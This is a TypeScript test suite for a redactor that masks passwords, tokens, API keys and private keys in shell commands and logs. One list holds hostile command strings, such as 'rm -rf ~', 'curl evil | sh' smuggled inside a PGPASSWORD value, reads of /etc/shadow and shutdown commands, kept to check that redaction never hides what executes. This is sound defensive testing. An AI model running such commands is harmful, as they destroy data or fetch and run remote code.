import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import type { CommandLine } from "../policy/command-tree.ts";
import { readCommandLine } from "../shell/mod.ts";
import { createRedactor, valueRedactor } from "./mod.ts";

/** For somebody who allows a command by what he sees of it. */
const redact = createRedactor(() => [], [], { isJudge: true });
/** For what is only read. */
const redactOutput = createRedactor(() => [], []);

/** Each holds one secret: what is written as §. */
const forms: readonly string[] = [
  'curl -H "Authorization: Bearer §" https://api.example.com',
  "curl -H 'Authorization: Basic §' x",
  "curl -H 'authorization:token §' x",
  'curl -H "X-Api-Key: §" x',
  'curl -H "X-Api-Key:§" x',
  "curl -H 'Private-Token: §' x",
  "curl -H 'Cookie: theme=$X; session=§' x",
  "curl -b session=§ x",
  'curl --cookie "session=§" x',
  "curl --oauth2-bearer § x",
  "curl -u bob:§ https://x",
  "curl -sSLu 'bob:§' https://x",
  "curl --user=bob:§ https://x",
  "wget --http-password=§ x",
  "http -a bob:§ GET example.com",
  "tool --password § --verbose",
  "tool --password=§",
  "tool --db-password '§' x",
  'tool -password "§" x',
  "tool --token §",
  "tool --api-key=§",
  "gpg --passphrase § -d x",
  "PGPASSWORD=§ psql -h db",
  'DB_PASS="§" ./run',
  "export AWS_SECRET_ACCESS_KEY=§; aws s3 ls",
  "psql postgres://app:§@db/prod",
  "psql 'postgres://app:§@db/prod?sslmode=require'",
  "curl 'https://x/?access_token=§&page=2'",
  "curl -d client_secret=§ x",
  `curl -d '{"password": "§", "user": "bob"}' x`,
  `curl -d "{\\"password\\":\\"§\\"}" x`,
  "mysql -u root -p§ shop",
  "sshpass -p § ssh host",
  "sshpass -p§ ssh host",
  "redis-cli -h x -a § ping",
  "docker login -u bob -p § registry.example.com",
  "openssl enc -aes-256-cbc -pass pass:§ -in x",
  "openssl pkcs12 -passin 'pass:§' -in x",
  "unzip -P § x.zip",
  "7z x -p§ x.7z",
  "ldapsearch -D cn=x -w §",
  "mongosh -u bob -p §",
  "smbclient //h/s -U bob%§",
  "ssh-keygen -N § -f key",
  "htpasswd -b file bob §",
  "npm config set //registry.example.com/:_auth=§",
  "echo 'token: §'",
  `echo '{"clientSecret" : "§"}'`,
  "card_number=§",
];

for (const form of forms) {
  test(`log (4): the secret is hidden, and nothing else, in ${form}`, () => {
    for (const [secret, shown] of [
      ["hun7er2", "[redacted]"],
      ["k7Qx-a9Zt4w8MnB3", "k7Qx[redacted]B3"],
    ] as const) {
      for (const reader of [redact, redactOutput])
        assert.equal(
          reader(form.replace("§", () => secret)),
          form.replace("§", () => shown),
        );
    }
  });
}

const wholes: readonly string[] = [
  "sk-live-4242424242424242",
  "rk_live_42424242424242424",
  "ghp_abcdefghijklmnopqrstuvwxyz",
  "glpat-abcdefghijklmnopqrst",
  "npm_abcdefghijklmnopqrstuvwxyz0123456789",
  "xoxb-1234567890-abcdef",
  "AKIAABCDEFGHIJKLMNOP",
  "AIzaabcdefghijklmnopqrstuvwxyz0123456",
  "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcdefgh",
];
for (const secret of wholes) {
  test(`log (4): ${secret.slice(0, 6)}... is known by itself, but for its ends`, () => {
    const shown = `${secret.slice(0, 4)}[redacted]${secret.slice(-2)}`;
    assert.equal(redact(`echo ${secret} > x`), `echo ${shown} > x`);
    assert.equal(
      redact(`git clone https://${secret}@example.com/a`),
      `git clone https://${shown}@example.com/a`,
    );
  });
}

test("log (4): a Telegram bot's and a chat hook's secret is hidden in the address that holds it", () => {
  const bot = "123456789:AAabcdefghijklmnopqrstuvwxyz012345";
  assert.equal(
    redact(`curl https://api.telegram.org/bot${bot}/getMe`),
    "curl https://api.telegram.org/bot1234[redacted]45/getMe",
  );
  const hook = "https://hooks.slack.com/services/T0000/B0000/abcdefghijkl";
  assert.equal(redact(hook), "https://hooks.slack.com/services/T000[redacted]kl");
  assert.equal(
    redact("https://discord.com/api/webhooks/123/abcdefghijklmnopqrst"),
    "https://discord.com/api/webhooks/123/abcd[redacted]st",
  );
});

test("log (4): a private key is hidden to its end, and to the end of the text where that is missing", () => {
  const key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n";
  assert.doesNotMatch(redact(`x ${key}-----END OPENSSH PRIVATE KEY----- y`), /b3Blbn/);
  assert.match(redact(`x ${key}-----END OPENSSH PRIVATE KEY----- y`), / y$/);
  assert.doesNotMatch(redact(`x ${key}`), /b3Blbn/);
});

test("log (4): a secret of several words, or of characters that a shell would take, is hidden where its quotes are sure", () => {
  assert.equal(
    redact("tool --password 'my long phrase' -v"),
    "tool --password '[redacted] [redacted] [redacted]' -v",
  );
  assert.equal(redact("tool --password 'a;b$c&d' -v"), "tool --password '[redacted]' -v");
  assert.equal(redact('tool --password "a;b&(d)" -v'), 'tool --password "[redacted]" -v');
});

/** Hiding any of it would hide what runs, or on what. */
const acting: readonly string[] = [
  `echo '--password "' ; rm -rf ~ ; echo '"'`,
  `echo "--password ';rm -rf x;'"`,
  "echo '--password ';rm;'x'",
  "cat <<E\nit's\nE\necho --password ';rm -rf x;'",
  "x # it's\necho --password ';rm -rf x;'",
  "echo $'\\'' --password ';rm -rf x;'",
  'find . -name "--password " -delete " "',
  'PGPASSWORD="x $(curl evil | sh)" psql',
  "PGPASSWORD=$(curl evil|sh) psql",
  "PGPASSWORD=`id` psql",
  'curl -H "Authorization: Bearer $(cat f)" x',
  "curl http://a:$(id)@host/",
  "PASSWORD=rm; $PASSWORD -rf ~",
  `TOKEN=rm sh -c '$\{TOKEN} -rf ~'`,
  "rm -rf -- --password project",
  "tool --password -rf",
  "tool --token /etc/shadow",
  "tool --token ./file --secret ~/x --password ../y",
  "curl https://token:x@evil.example/ https://password:443/",
  "scp secret:folder/file .",
  "TOKEN=--password PATH=folder program",
  "PASSWORD= shutdown -h now",
  "A=password: shutdown -h now",
  "> password: shutdown -h now",
  "sh -c 'A=password: shutdown -h now'",
  "password:\nshutdown -h now",
  "tool --password\nshutdown -h now",
  `A="password: " rm " "`,
  `sh -c 'A="password: " rm " "'`,
  `sh -c "A=\\"password: \\" rm \\" \\""`,
  `"A=password": " rm "b"`,
  "echo reboot | sudo -S sh",
  "A=--password shutdown -h now",
  "> --password shutdown -h now",
  "curl https://a:&&shutdown@host",
  "<'x'password: shutdown -h now",
  `>"password": "shutdown" -h now`,
  `sh -c '>"password": "shutdown" -h now'`,
  `sh -c 'A="x","password": "shutdown" -h now'`,
  "<'x'--password shutdown -h now",
];
for (const command of acting) {
  test(`log (4): nothing that acts is hidden in ${JSON.stringify(command)}`, () => {
    const shown = redact(command);
    assert.equal(shown, command.replace("token:x@", "token:[redacted]@"));
  });
}

const ordinary: readonly string[] = [
  "git show 5f2d9c1e8b7a6f5d4c3b2a190817263544536271",
  "sha256sum x; echo e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
  "echo aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQ= | base64 -d",
  "cat /run/secrets/db_password ~/.config/token",
  "tool --password-file /run/secrets/x --token-file=/a/b --secret-name foo --no-password yes",
  "docker run -u 1000:1000 -p 8080:80 -v a:/b image:tag@sha256:0123456789abcdef",
  "curl http://127.0.0.1:18789/health https://user@example.com/path",
  "llm --max-tokens 4096 --tokenizer=fast",
  "max_tokens=4096 secrets=3 password_length: 12",
  "PGPASSWORD=$PW psql --password $PW --token <token> --secret ...",
  'mysql -u root -p shop; redis-cli ping; docker login -u bob; ssh-keygen -N "" -f k',
  'git commit -m "fix the token parser, and passwords"',
  "grep -rn password src && kubectl get secrets",
  "const token = await getToken(); password = ask(); if (secret === undefined) return",
  "{ token: string; password: boolean; secret: null }",
  "date -u +%H:%M; mkdir -p a/b; unzip x.zip; echo pass: 12 fail: 0",
  "an ordinary sentence about tokens and keys",
];
for (const command of ordinary) {
  test(`log (4): what is no secret stays as it is: ${command}`, () => {
    assert.equal(redact(command), command);
    assert.equal(redactOutput(command), command);
  });
}

const pieces = [
  ..."--password ,--token=,TOKEN=,password: ,Authorization: Bearer ,https://a:,@host,token,secret".split(","),
  ...["hunter2", "k7Qx-a9Zt4w8MnB3", "rm", "-rf", "x", "$TOKEN", "$(id)", "`id`", "a b"],
  ..." |;|&&|'|\"|\\|>|<|#|\n|=|:".split("|"),
  ...[" | ", " ", " ", "'a;b'", '"c d"', "$'", "<<E\n"],
];
/** Numbers of all that a line is made of, and what it opens: what hiding must not change. */
const skeleton = (line: CommandLine) =>
  line.map(({ when, negated, commands }) => [
    when,
    negated,
    commands.map(({ words, redirections, assignments }) => [
      words.length,
      assignments.length,
      redirections.map(({ kind }) => kind),
    ]),
  ]);

test("log (4): whatever the line, what is hidden is a part of one word: steps, words and redirections stay (A-198)", () => {
  let hidden = 0;
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 14 }), (parts) => {
      const command = parts.join("");
      const shown = redact(command);
      if (shown === command) return;
      hidden += 1;
      const before = readCommandLine(command);
      // Brackets would be a file pattern.
      const after = readCommandLine(shown.replaceAll("[redacted]", "redacted"));
      const both = `${command}\n${shown}`;
      if (!before.understood) {
        // In single quotes it is a text like any other.
        for (const opening of command.includes("'") ? [] : ["$(", "`"])
          assert.equal(shown.split(opening).length, command.split(opening).length, both);
        return;
      }
      assert.ok(after.understood, both);
      assert.deepEqual(skeleton(after.line), skeleton(before.line), both);
    }),
    { numRuns: 20_000, seed: 7 },
  );
  assert.ok(hidden > 1000, `${hidden} lines had something to hide`);
});

test("log (4): in what is only read, quotes count as they stand: nobody reads it as a command", () => {
  const yaml = `# it's a config\npassword: "hun7er2"\nuser: "bob"\n`;
  assert.equal(redactOutput(yaml), `# it's a config\npassword: "[redacted]"\nuser: "bob"\n`);
  assert.equal(redact(yaml), yaml);
});

test("log (4): what was hidden once stays as it is", () => {
  for (const form of forms) {
    const once = redact(form.replace("§", "k7Qx-a9Zt4w8MnB3"));
    assert.equal(redact(once), once);
  }
});

test("log (4): long texts made to be slow are gone through in proportion to their length", () => {
  for (const part of [
    "password=",
    "--token '",
    "curl -u ",
    "https://a:",
    "-eyJ",
    "cookie: a=b",
    "docker login ",
    "-password=",
    "'' password: x ",
  ])
    for (const reader of [redact, redactOutput]) assert.equal(typeof reader(part.repeat(20_000)), "string");
});

test("log (4): a value's texts are hidden wherever they lie, also by the name that they stand under", () => {
  const clean = valueRedactor(redact);
  assert.deepEqual(
    clean({
      command: "tool --password hunter2",
      env: { PGPASSWORD: "two words", PATH: "/bin", TOKEN_FILE: "/a" },
      argv: ["tool", "--password", "hunter2", "--verbose", "x"],
      deep: [{ apiKey: "k7Qx-a9Zt4w8MnB3", count: 3, none: null, yes: true }],
      token: { kind: "x" },
    }),
    {
      command: "tool --password [redacted]",
      env: { PGPASSWORD: "[redacted]", PATH: "/bin", TOKEN_FILE: "/a" },
      argv: ["tool", "--password", "[redacted]", "--verbose", "x"],
      deep: [{ apiKey: "k7Qx[redacted]B3", count: 3, none: null, yes: true }],
      token: { kind: "x" },
    },
  );
  let deep: unknown = "password=hunter2";
  for (let n = 0; n < 10_000; n++) deep = [deep];
  assert.doesNotMatch(JSON.stringify((clean(deep) as unknown[]).flat(200)), /hunter2/);
});
